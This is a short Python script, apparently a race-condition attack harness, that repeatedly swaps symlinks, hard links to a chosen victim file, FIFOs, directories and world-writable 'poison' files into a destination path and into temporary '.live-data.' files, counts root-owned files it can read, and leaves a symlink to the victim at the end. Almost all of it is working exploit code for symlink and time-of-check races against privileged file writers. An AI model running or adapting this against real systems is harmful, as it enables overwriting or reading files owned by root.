# Plants links to a victim, FIFOs, directories and files at a destination and at every temporary file
# that it sees, and counts the files of root that it can read. Ends with a link at the destination.

place, name, victim = sys.argv[1:]
os.chdir(place)
counts = {"plants": 0, "temporary": 0, "leaks": 0}

def own_file(path):
    with open(path, "w") as file:
        file.write("poison")
    os.chmod(path, 0o666)

def directory(path):
    os.mkdir(path)
    own_file(path + "/inside")

KINDS = [
    lambda path: os.symlink(victim, path),
    lambda path: os.symlink(os.path.dirname(victim) + "/new", path),
    os.mkfifo,
    os.mkdir,
    directory,
    own_file,
    lambda path: os.link(victim, path),
    lambda path: os.link(name, path),
]

def clear(path):
    for remove in os.unlink, lambda path: os.unlink(path + "/inside"), os.rmdir:
        try:
            remove(path)
        except OSError:
            pass

def look(path):
    try:
        file = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
    except OSError:
        return
    found = os.fstat(file)
    counts["leaks"] += stat.S_ISREG(found.st_mode) and found.st_uid == 0
    os.close(file)

turn = 0
def strike(path):
    global turn
    turn += 1
    try:
        KINDS[turn % len(KINDS)]("trap")
        struck = swap("trap", path)
    except OSError:
        struck = False
    clear("trap")
    return struck

while goes_on():
    look(name)
    counts["plants"] += strike(name)
    for temporary in os.listdir("."):
        if temporary.startswith(".live-data."):
            look(temporary)
            counts["temporary"] += strike(temporary)
            clear(temporary)
    if turn % 100 == 0:
        print(*(f"{what} {count}" for what, count in counts.items()), sep="\n", flush=True)
clear(name)
os.symlink(victim, name)
print(*(f"{what} {count}" for what, count in counts.items()), "ended", sep="\n", flush=True)
